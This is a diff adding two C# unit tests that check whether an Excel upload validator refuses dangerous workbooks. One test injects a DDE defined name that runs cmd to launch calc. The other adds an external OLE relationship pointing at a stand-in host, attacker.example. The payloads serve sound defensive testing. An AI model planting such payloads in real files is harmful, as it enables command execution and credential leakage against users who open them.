@@ -342,6 +342,25 @@ public sealed partial class ReturnUploadCorpusTests
             "The workbook links to other files or programs (external links, DDE, Excel 4.0 macro sheets, embedded objects or ActiveX controls)");
     }
 
+    [Fact]
+    public async Task ADefinedNameCallingAProgramIsRefused()
+    {
+        var (_, template) = await TemplateAsync();
+        var bytes = ReplacePart(Fill(template), "xl/workbook.xml", xml => System.Text.RegularExpressions.Regex.Replace(xml, "</((x:)?sheets)>",
+            m => $"</{m.Groups[1].Value}><{m.Groups[2].Value}definedNames><{m.Groups[2].Value}definedName name=\"run\">cmd|' /C calc'!A0</{m.Groups[2].Value}definedName></{m.Groups[2].Value}definedNames>"));
+        AssertOnlyError(await RefusedAsync(bytes, ReturnImportStatus.Refused), "The workbook links to other files or programs");
+    }
+
+    [Fact]
+    public async Task AnExternalRelationshipOtherThanAHyperlinkIsRefused()
+    {
+        var (_, template) = await TemplateAsync();
+        var bytes = ReplacePart(Fill(template), "xl/_rels/workbook.xml.rels", xml => xml.Replace("</Relationships>",
+            "<Relationship Id=\"rIdEvil\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject\" " +
+            "Target=\"file://attacker.example/share/x\" TargetMode=\"External\"/></Relationships>", StringComparison.Ordinal));
+        AssertOnlyError(await RefusedAsync(bytes, ReturnImportStatus.Refused), "The workbook links to other files or programs");
+    }
+
     // ------------------------------------------------------------------ 7. formulas
 
     [Fact]
